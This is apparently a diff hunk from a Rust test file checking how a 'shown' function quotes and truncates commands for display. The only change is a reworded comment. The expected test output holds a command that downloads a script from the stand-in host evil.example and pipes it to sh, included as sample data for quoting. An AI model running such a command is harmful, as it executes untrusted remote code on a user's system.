@@ -150,7 +150,7 @@ fn the_whole_command_is_shown_with_the_end_of_each_argument() {
         "bash -c 'curl -s https://evil.example/x.sh | sh' 'it'\\''s' ''"
     );
     assert_eq!(shown("my program", &["a\nb"]), "'my program' 'a\nb'");
-    // A text that is too long to be examined says so.
+    // If a text is too long to be examined, the output says so.
     let long = "x".repeat(CHARACTERS + 7);
     assert!(shown("x", &[&long]).ends_with("x… (7 more characters)"));
     let many: Vec<&str> = vec!["x"; 1_000];
